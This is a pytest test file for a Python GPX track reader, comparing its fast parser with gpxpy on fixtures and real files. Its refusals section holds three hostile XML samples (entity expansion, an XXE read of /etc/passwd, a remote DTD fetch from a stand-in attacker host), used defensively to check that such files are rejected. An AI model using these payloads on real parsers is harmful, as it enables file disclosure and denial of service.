"""GPX reader: streaming fast path against the gpxpy reference, hand-written fixtures, real files.

Outside references: gpxpy (PyPI, Apache-2.0) parses every fixture and real file independently;
time offsets are converted by hand following XML Schema Part 2 section 3.2.7 (``dateTime``:
local time minus offset = UTC); the GPX 1.0/1.1 schemas say times without offset are UTC and
GPX 1.0 ``<speed>`` is in m/s. Real files are the gpxpy test tracks and a GPS logger's track from
the GPS converter's regression reference data (see ../shared/real_logs/SOURCES.md).
"""

from __future__ import annotations

import codecs
from datetime import UTC
from pathlib import Path

import gpxpy
import gpxpy.gpxfield
import numpy as np
import pandas as pd
import pytest

from fleetfuel import schema
from fleetfuel.errors import InputDataError
from fleetfuel.ingest import gpx_stream
from fleetfuel.ingest.config import IngestConfig
from fleetfuel.ingest.gpx import read_gpx_log, read_gpx_reference
from fleetfuel.ingest.gpx_stream import parse_gpx_times

REPO_ROOT = Path(__file__).resolve().parents[2]
REAL_LOGS = REPO_ROOT.parent / "shared" / "real_logs"
REAL_GPX = sorted(REAL_LOGS.glob("*/*.gpx")) if REAL_LOGS.is_dir() else []
CFG = IngestConfig()

GPX11 = """<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.1" creator="fleetfuel tests" xmlns="http://www.topografix.com/GPX/1/1"
     xmlns:tpx="http://example.org/trackpoint/v2" xmlns:spd="urn:example:speed">
  <metadata><time>1970-01-01T00:00:00Z</time></metadata>
  <wpt lat="52.0" lon="13.0"><name>depot</name></wpt>
  <trk><name>morning</name>
    <trkseg>
      <trkpt lat="52.5200000" lon="13.4050000"><ele>34.5</ele><time>2021-05-01T10:00:00+02:00</time>
        <extensions><tpx:TrackPointExtension><tpx:speed>12.5</tpx:speed></tpx:TrackPointExtension></extensions>
      </trkpt>
      <trkpt lat="52.5201000" lon="13.4052000"><time>2021-05-01T08:00:01Z</time>
        <extensions><spd:speed>13.25</spd:speed></extensions>
      </trkpt>
    </trkseg>
    <trkseg>
      <trkpt lat="52.5300000" lon="13.4100000"><ele>36</ele><time>2021-05-01T03:10:00.250-05:00</time></trkpt>
    </trkseg>
  </trk>
  <trk><name>afternoon</name><trkseg>
    <trkpt lat="-33.8688" lon="151.2093"><ele>-1.5</ele><time>2021-05-01T22:00:00+10:00</time>
      <extensions><tpx:TrackPointExtension><tpx:hr>90</tpx:hr><tpx:speed>0</tpx:speed></tpx:TrackPointExtension></extensions>
    </trkpt>
  </trkseg></trk>
  <rte><rtept lat="52.0" lon="13.0"/></rte>
</gpx>
"""
# Hand conversion to UTC (XML Schema dateTime): 10:00+02:00 -> 08:00; 03:10:00.250-05:00 -> 08:10:00.250;
# 22:00+10:00 -> 12:00 the same day.
GPX11_TIMES_UTC = ["2021-05-01T08:00:00", "2021-05-01T08:00:01", "2021-05-01T08:10:00.250", "2021-05-01T12:00:00"]
GPX11_SPEED = [12.5, 13.25, np.nan, 0.0]
GPX11_ELE = [34.5, np.nan, 36.0, -1.5]

GPX10 = """<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.0" creator="fleetfuel tests" xmlns="http://www.topografix.com/GPX/1/0">
<time>1970-01-01T00:00:00Z</time>
<trk><name>empty</name><trkseg>
</trkseg></trk>
<trk><name>untimed</name><trkseg>
<trkpt lat="45.0" lon="14.0"><ele>700</ele></trkpt>
<trkpt lat="45.001" lon="14.001"><ele>701</ele></trkpt>
</trkseg></trk>
<trk><name>drive</name><trkseg>
<trkpt lat="45.1" lon="14.1"><ele>710</ele><time>2010-10-03T08:00:00Z</time><speed>13.888889</speed></trkpt>
<trkpt lat="45.1001" lon="14.1002"><time>2010-10-03T08:00:01Z</time><course>90</course><speed>14.5</speed></trkpt>
</trkseg></trk>
</gpx>
"""


def _write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8", bom: bytes = b"") -> Path:
    path = tmp_path / name
    path.write_bytes(bom + text.encode(encoding))
    return path


def _assert_same_log(fast, reference) -> None:  # type: ignore[no-untyped-def]
    """Fast path == gpxpy: lat, lon, ele, time exactly; speed exactly (both parse the same text)."""
    pd.testing.assert_frame_equal(fast.samples, reference.samples, check_exact=True)
    pd.testing.assert_frame_equal(fast.dropped, reference.dropped)
    assert fast.rows_in == reference.rows_in
    assert fast.flags == reference.flags


def _assert_account(log) -> None:  # type: ignore[no-untyped-def]
    assert log.rows_in == len(log.samples) + len(log.dropped)
    rows = np.sort(np.concatenate([log.samples[schema.SOURCE_ROW].to_numpy(), log.dropped["source_row"].to_numpy()]))
    np.testing.assert_array_equal(rows, np.arange(log.rows_in))
    assert set(log.dropped["reason"]) <= set(schema.DROP_REASONS)


# --- hand-written fixtures -------------------------------------------------------------------


def test_gpx11_tracks_segments_offsets_and_namespaced_speed(tmp_path: Path) -> None:
    path = _write(tmp_path, "van_07.gpx", GPX11)
    log = read_gpx_log(path, CFG)
    _assert_same_log(log, read_gpx_reference(path, CFG))  # gpxpy reference
    _assert_account(log)
    s = log.samples
    assert list(s.columns) == list(schema.RAW_COLUMNS)
    assert str(s[schema.TIME_UTC].dtype) == "datetime64[ns, UTC]"
    np.testing.assert_array_equal(s[schema.TIME_UTC].dt.tz_convert(None).to_numpy(), np.array(GPX11_TIMES_UTC, "M8[ns]"))
    # Speed from two different extension namespaces, matched on the local name "speed".
    np.testing.assert_array_equal(s[schema.SPEED_M_S].to_numpy(), GPX11_SPEED)
    np.testing.assert_array_equal(s[schema.ELEVATION_M].to_numpy(), GPX11_ELE)  # missing <ele> -> NaN
    np.testing.assert_array_equal(s[schema.LAT_DEG].to_numpy(), [52.52, 52.5201, 52.53, -33.8688])
    np.testing.assert_array_equal(s[schema.SOURCE_ROW].to_numpy(), [0, 1, 2, 3])
    assert set(s[schema.VEHICLE_ID]) == {"van_07"}  # default rule: file stem
    assert set(s[schema.SOURCE_FILE]) == {str(path)}
    assert log.rows_in == 4  # waypoints and route points are not rows
    assert log.profile == "gpx"
    assert "gpx_segment_starts:0,2,3" in log.flags
    assert "gpx_waypoints_not_rows:1" in log.flags and "gpx_route_points_not_rows:1" in log.flags


def test_gpx10_speed_untimed_and_empty_tracks(tmp_path: Path) -> None:
    path = _write(tmp_path, "hike.gpx", GPX10)
    log = read_gpx_log(path, CFG)
    _assert_same_log(log, read_gpx_reference(path, CFG))
    _assert_account(log)
    assert log.rows_in == 4
    assert log.dropped["source_row"].tolist() == [0, 1]
    assert log.dropped["reason"].tolist() == [schema.DROP_TIME_MISSING] * 2
    np.testing.assert_array_equal(log.samples[schema.SPEED_M_S].to_numpy(), [13.888889, 14.5])  # <speed> in m/s
    np.testing.assert_array_equal(log.samples[schema.ELEVATION_M].to_numpy(), [710.0, np.nan])
    assert log.flags[:2] == ("gpx_empty_track:0", "gpx_untimed_track_skipped:1")
    assert "gpx_segment_starts:0,2" in log.flags


@pytest.mark.parametrize("bom", [codecs.BOM_UTF8, b""])
def test_utf8_bom(tmp_path: Path, bom: bytes) -> None:
    plain = read_gpx_log(_write(tmp_path, "plain.gpx", GPX11), CFG)
    path = _write(tmp_path, "bom.gpx", GPX11, bom=bom)
    log = read_gpx_log(path, CFG)
    _assert_same_log(log, read_gpx_reference(path, CFG))
    columns = [c for c in schema.RAW_COLUMNS if c not in (schema.VEHICLE_ID, schema.SOURCE_FILE)]
    pd.testing.assert_frame_equal(log.samples[columns], plain.samples[columns])


def test_utf16_file_reads_like_utf8(tmp_path: Path) -> None:
    plain = read_gpx_log(_write(tmp_path, "plain.gpx", GPX11), CFG)
    text = GPX11.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    log = read_gpx_log(_write(tmp_path, "wide.gpx", text, "utf-16-le", codecs.BOM_UTF16_LE), CFG)
    columns = [c for c in schema.RAW_COLUMNS if c not in (schema.VEHICLE_ID, schema.SOURCE_FILE)]
    pd.testing.assert_frame_equal(log.samples[columns], plain.samples[columns])


def test_prefixed_gpx_namespace_and_no_namespace(tmp_path: Path) -> None:
    # Elements are matched on their local name whatever the namespace (or none).
    prefixed = (
        '<g:gpx version="1.1" xmlns:g="http://www.topografix.com/GPX/1/1"><g:trk><g:trkseg>'
        '<g:trkpt lat="1.5" lon="2.5"><g:ele>3</g:ele><g:time>2021-01-01T00:00:00Z</g:time></g:trkpt>'
        "</g:trkseg></g:trk></g:gpx>"
    )
    bare = prefixed.replace("g:", "").replace(' xmlns="http://www.topografix.com/GPX/1/1"', "")
    for name, text in (("prefixed.gpx", prefixed), ("bare.gpx", bare)):
        log = read_gpx_log(_write(tmp_path, name, text), CFG)
        assert log.samples[[schema.LAT_DEG, schema.LON_DEG, schema.ELEVATION_M]].iloc[0].tolist() == [1.5, 2.5, 3.0]


def test_bad_values_dropped_with_reasons_or_kept_as_nan(tmp_path: Path) -> None:
    points = [
        '<trkpt lat="1" lon="1"><time>junk</time></trkpt>',  # 0 time_unparseable
        '<trkpt lat="1" lon="1"><time>1970-01-01T00:00:05Z</time></trkpt>',  # 1 time_implausible (epoch clock)
        '<trkpt lon="1"><time>2021-03-01T00:00:02Z</time></trkpt>',  # 2 position_invalid (no lat)
        '<trkpt lat="abc" lon="1"><time>2021-03-01T00:00:03Z</time></trkpt>',  # 3 position_invalid
        '<trkpt lat="1" lon="1"><ele>high</ele><time>2021-03-01T00:00:04Z</time></trkpt>',  # 4 kept, ele NaN
        '<trkpt lat="1" lon="1"><time>2021-03-01T00:00:05Z</time><speed>fast</speed></trkpt>',  # 5 kept, NaN
        '<trkpt lat="1" lon="1"><time>2021-02-30T00:00:06Z</time></trkpt>',  # 6 time_unparseable (30 Feb)
        '<trkpt lat="1" lon="1"><time>\n  2021-03-01T00:00:07Z \n</time></trkpt>',  # 7 kept (xsd trims)
        '<trkpt lat="1" lon="1"><time/></trkpt>',  # 8 time_missing
        '<trkpt lat="nan" lon="1"><time>2021-03-01T00:00:09Z</time></trkpt>',  # 9 position_invalid
    ]
    text = '<gpx version="1.0"><trk><trkseg>' + "".join(points) + "</trkseg></trk></gpx>"
    path = _write(tmp_path, "bad.gpx", text)
    log = read_gpx_log(path, CFG)
    _assert_account(log)
    assert dict(zip(log.dropped["source_row"], log.dropped["reason"], strict=True)) == {
        0: schema.DROP_TIME_UNPARSEABLE,
        1: schema.DROP_TIME_IMPLAUSIBLE,
        2: schema.DROP_POSITION_INVALID,
        3: schema.DROP_POSITION_INVALID,
        6: schema.DROP_TIME_UNPARSEABLE,
        8: schema.DROP_TIME_MISSING,
        9: schema.DROP_POSITION_INVALID,
    }
    assert log.samples[schema.SOURCE_ROW].tolist() == [4, 5, 7]
    assert log.samples[schema.TIME_UTC].iloc[2] == pd.Timestamp("2021-03-01T00:00:07Z")
    assert "gpx_elevation_unparseable:1" in log.flags and "gpx_speed_unparseable:1" in log.flags
    with pytest.raises(InputDataError, match="gpxpy refused"):  # gpxpy refuses the non-numeric values
        read_gpx_reference(path, CFG)


def test_naive_times_are_utc_and_fraction_kept_to_nanoseconds(tmp_path: Path) -> None:
    text = (
        '<gpx version="1.1"><trk><trkseg>'
        '<trkpt lat="1" lon="1"><time>2021-05-01T10:00:00</time></trkpt>'
        '<trkpt lat="1" lon="1"><time>2021-05-01T10:00:00.123456789Z</time></trkpt>'
        "</trkseg></trk></gpx>"
    )
    log = read_gpx_log(_write(tmp_path, "naive.gpx", text), IngestConfig(timezone="Europe/Berlin"))
    # GPX schema: times are UTC, so the configured zone for naive CSV times does not apply.
    assert log.samples[schema.TIME_UTC].tolist() == [
        pd.Timestamp("2021-05-01T10:00:00Z"),
        pd.Timestamp("2021-05-01T10:00:00.123456789Z"),
    ]


def test_vehicle_id_rule_from_config(tmp_path: Path) -> None:
    folder = tmp_path / "truck_12"
    folder.mkdir()
    path = _write(folder, "monday.gpx", GPX10)
    assert set(read_gpx_log(path, IngestConfig(vehicle_id_rule="folder")).samples[schema.VEHICLE_ID]) == {"truck_12"}
    assert set(read_gpx_log(path, CFG).samples[schema.VEHICLE_ID]) == {"monday"}


TIME_TEXTS = [
    "2021-05-01T10:00:00Z",
    "2021-05-01T10:00:00",
    "2021-05-01 10:00:00Z",
    "2021-5-1T9:8:7Z",
    "2021-05-01T10:00:00.5Z",
    "2021-05-01T10:00:00.123456Z",
    "2021-05-01T10:00:00+0530",
    "2021-05-01T10:00:00+05",
    "2021-05-01T10:00:00\u221202:00",
    "2021-05-01T10:00:00-03:30",
    "2021-02-30T00:00:00Z",
    "2021-13-01T00:00:00Z",
    "2016-12-31T23:59:60Z",
    "2021-05-01",
    "junk",
]


def _gpxpy_time_utc(text: str) -> np.datetime64:
    try:
        moment = gpxpy.gpxfield.parse_time(text)
    except (gpxpy.gpx.GPXException, ValueError):
        return np.datetime64("NaT", "ns")
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return pd.Timestamp(moment).tz_convert("UTC").tz_localize(None).to_datetime64()


def test_time_grammar_matches_gpxpy_parse_time() -> None:
    parsed, missing = parse_gpx_times([*TIME_TEXTS, None, "  "])
    expected = np.array([_gpxpy_time_utc(text) for text in TIME_TEXTS], dtype="M8[ns]")
    np.testing.assert_array_equal(parsed[: len(TIME_TEXTS)], expected)  # gpxpy.gpxfield.parse_time
    assert np.isnat(expected[-5:]).all()  # the invalid ones really are invalid for gpxpy too
    assert missing.tolist() == [False] * len(TIME_TEXTS) + [True, True]


# --- refusals ---------------------------------------------------------------------------------


def _no_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*args: object, **kwargs: object) -> None:
        raise AssertionError("an XML parser was called on a hostile file")

    monkeypatch.setattr(gpx_stream, "safe_iterparse", fail)
    monkeypatch.setattr(gpxpy, "parse", fail)


HOSTILE = {
    "laughs.gpx": '<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<gpx><trk><name>&b;</name></trk></gpx>",
    "xxe.gpx": '<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]><gpx><trk><name>&x;</name></trk></gpx>',
    "param.gpx": '<!DOCTYPE gpx [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><gpx/>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_files_refused_before_parsing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    path = _write(tmp_path, name, '<?xml version="1.0"?>\n' + HOSTILE[name])
    _no_parser(monkeypatch)
    for reader in (read_gpx_log, read_gpx_reference):
        with pytest.raises(InputDataError) as exc:
            reader(path, CFG)
        assert "\n" not in str(exc.value) and str(path) in str(exc.value) and "<!DOCTYPE" in str(exc.value)


def test_truncated_file_refused(tmp_path: Path) -> None:
    cut = GPX11[: GPX11.index("<ele>36</ele>") + 8]
    path = _write(tmp_path, "cut.gpx", cut)
    with pytest.raises(InputDataError) as exc:
        read_gpx_log(path, CFG)
    assert "\n" not in str(exc.value) and str(path) in str(exc.value) and "not well-formed" in str(exc.value)


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ('<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>', "not a GPX file"),
        ('<gpx version="1.1"><wpt lat="1" lon="2"/></gpx>', "no track points"),
        ('<gpx version="1.1"><trk><trkseg><trkpt lat="1" lon="2"><time>&nbsp;</time></trkpt></trkseg></trk></gpx>',
         "not well-formed"),  # undeclared entity
        ('<gpx version="1.1"><trk></gpx>', "not well-formed"),
    ],
)
def test_other_bad_files_refused_with_one_line(tmp_path: Path, text: str, word: str) -> None:
    path = _write(tmp_path, "bad.gpx", text)
    with pytest.raises(InputDataError) as exc:
        read_gpx_log(path, CFG)
    assert "\n" not in str(exc.value) and str(path) in str(exc.value) and word in str(exc.value)


# --- real third-party files -------------------------------------------------------------------


def _real(name: str) -> Path:
    found = [p for p in REAL_GPX if p.name == name]
    if not found:
        pytest.skip(f"{name} not in ../shared/real_logs")
    return found[0]


@pytest.mark.real_logs
@pytest.mark.parametrize("path", REAL_GPX or [None], ids=lambda p: p.name if p else "absent")
def test_real_files_match_gpxpy(path: Path | None) -> None:
    if path is None:
        pytest.skip("../shared/real_logs is absent")
    log = read_gpx_log(path, CFG)
    _assert_same_log(log, read_gpx_reference(path, CFG))
    _assert_account(log)
    # Point count straight from gpxpy's object model.
    document = gpxpy.parse(path.read_text(encoding="utf-8"))
    assert log.rows_in == sum(len(seg.points) for trk in document.tracks for seg in trk.segments)


@pytest.mark.real_logs
def test_real_hiking_file_untimed_track_dropped() -> None:
    log = read_gpx_log(_real("korita-zbevnica.gpx"), CFG)
    # SOURCES.md: 4 tracks: empty, 358 untimed points, then 176 and 337 timed points; 2 waypoints.
    assert log.rows_in == 358 + 176 + 337
    assert (log.dropped["reason"] == schema.DROP_TIME_MISSING).sum() == 358
    assert log.dropped["source_row"].tolist() == list(range(358))
    assert len(log.samples) == 176 + 337
    assert {"gpx_empty_track:0", "gpx_untimed_track_skipped:1", "gpx_waypoints_not_rows:2"} <= set(log.flags)
    assert "gpx_segment_starts:0,358,534" in log.flags


@pytest.mark.real_logs
def test_real_logger_file_speed_and_first_point() -> None:
    converter_tracks = sorted((REAL_LOGS / "gpsbabel").glob("*.gpx"))  # the converter's one GPX sample
    if len(converter_tracks) != 1:
        pytest.skip("the converter's GPX reference track is not in ../shared/real_logs")
    path = converter_tracks[0]
    log = read_gpx_log(path, CFG)
    assert log.rows_in == 12027 and len(log.samples) == 12027  # SOURCES.md: 12027 points, one segment
    assert np.isfinite(log.samples[schema.SPEED_M_S]).all()  # GPX 1.0 <speed> on every point
    first = log.samples.iloc[0]
    # First <trkpt> as written in the file: lat 45.491561890, lon -77.696372986, ele 296, speed 0.888889 m/s.
    assert (first[schema.LAT_DEG], first[schema.LON_DEG]) == (45.491561890, -77.696372986)
    assert (first[schema.ELEVATION_M], first[schema.SPEED_M_S]) == (296.0, 0.888889)
    assert first[schema.TIME_UTC] == pd.Timestamp("2020-02-14T18:04:30Z")  # header time 1970 is ignored
    assert not any(flag.startswith("gpx_segment_starts") for flag in log.flags)


@pytest.mark.real_logs
def test_real_one_line_car_file() -> None:
    path = _real("around-visnjan-with-car.gpx")
    assert b"\n" not in path.read_bytes()  # SOURCES.md: the whole file is one line, no final newline
    log = read_gpx_log(path, CFG)
    assert log.rows_in == 104 and len(log.samples) == 104
    assert log.samples[schema.SPEED_M_S].isna().all()  # no speed element or extension
    assert log.samples[schema.ELEVATION_M].between(195.5, 242.5).all()  # SOURCES.md: 196 to 242 m (rounded)


def test_chunked_conversion_equals_one_chunk(tmp_path: Path) -> None:
    # The stream converts texts to arrays every `chunk_points` points; the result must not depend on it.
    path = _write(tmp_path, "chunks.gpx", GPX11)
    whole = gpx_stream.stream_track_points(path)
    for chunk in (1, 2, 3):
        part = gpx_stream.stream_track_points(path, chunk_points=chunk)
        for name in ("lat_deg", "lon_deg", "elevation_m", "speed_m_s", "time_utc", "time_missing", "track", "segment"):
            np.testing.assert_array_equal(getattr(part, name), getattr(whole, name))
    assert whole.track.tolist() == [0, 0, 0, 1] and whole.segment.tolist() == [0, 0, 1, 2]


def test_plausible_time_window_from_config(tmp_path: Path) -> None:
    times = ["2020-12-31T23:59:59Z", "2021-01-01T00:00:00Z", "2021-01-01T23:59:59Z", "2021-01-02T00:00:00Z"]
    points = "".join(f'<trkpt lat="1" lon="1"><time>{t}</time></trkpt>' for t in times)
    path = _write(tmp_path, "window.gpx", f'<gpx version="1.1"><trk><trkseg>{points}</trkseg></trk></gpx>')
    log = read_gpx_log(path, IngestConfig(earliest_time_utc="2021-01-01", latest_time_utc="2021-01-02"))
    # Window [earliest, latest): the same rule as the CSV/Parquet readers.
    assert log.samples[schema.SOURCE_ROW].tolist() == [1, 2]
    assert log.dropped["reason"].tolist() == [schema.DROP_TIME_IMPLAUSIBLE] * 2


@pytest.mark.parametrize("text", [GPX10, GPX11], ids=["gpx10", "gpx11"])
def test_track_and_segment_indices_match_gpxpy(tmp_path: Path, text: str) -> None:
    from fleetfuel.ingest import gpx
    from fleetfuel.ingest.xmlsafe import scan_prolog

    path = _write(tmp_path, "indices.gpx", text)
    fast = gpx_stream.stream_track_points(path)
    ref = gpx._gpxpy_track_points(path, scan_prolog(path))  # gpxpy's tracks/segments, empty ones counted
    np.testing.assert_array_equal(fast.track, ref.track)
    np.testing.assert_array_equal(fast.segment, ref.segment)
    assert fast.n_tracks == ref.n_tracks
